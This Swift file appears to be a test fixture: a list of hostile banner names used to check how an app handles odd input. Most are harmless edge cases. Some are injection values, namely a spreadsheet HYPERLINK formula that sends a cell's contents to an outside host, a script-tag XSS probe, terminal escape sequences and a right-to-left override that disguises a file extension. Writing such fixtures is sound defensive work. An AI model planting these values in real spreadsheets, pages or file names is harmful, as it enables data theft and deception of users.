/// Names that anyone may give to a banner.
enum HostileTexts {
  static let all = [
    "", " ", "  two spaces around  ", "line\nfeed", "carriage\rreturn", "both\r\nof them", "\ttab", "a\tb",
    "\u{1B}[31mred\u{1B}[0m", "\u{1B}]0;title\u{7}", "\u{9B}31m", "nul\0nul", "\u{7F}\u{8}\u{8}back",
    "\u{202E}gnp.exe", "\u{2066}isolate\u{2069}", "\u{200F}mark\u{61C}", "line\u{2028}and\u{2029}paragraph",
    "=1+1", "+1", "-1", "@SUM(A1)", "'=1", "''@x", "'tis", "\u{FF1D}1", "=HYPERLINK(\"http://e.org/?\"&A1,\"x\")",
    "\"quoted\"", "comma, comma", "\"", "\"\"", ",", "\r\n", "<script>alert(1)</script>", "a & b", "back\\slash \\n",
    "夏のセール", "여름 세일", "👩‍👩‍👧‍👦 family", "👍🏽", "🇩🇪🇫🇷", "1️⃣", "e\u{301}", "\u{301}leading", "حملة الصيف", "מבצע",
    "\u{200B}zero\u{200D}width\u{FEFF}", "Z\(String(repeating: "\u{34F}\u{301}", count: 50))algo",
    String(repeating: "long ", count: 2048), String(repeating: "\"\n", count: 5000),
    String(repeating: "漢", count: 3400),
  ]
}
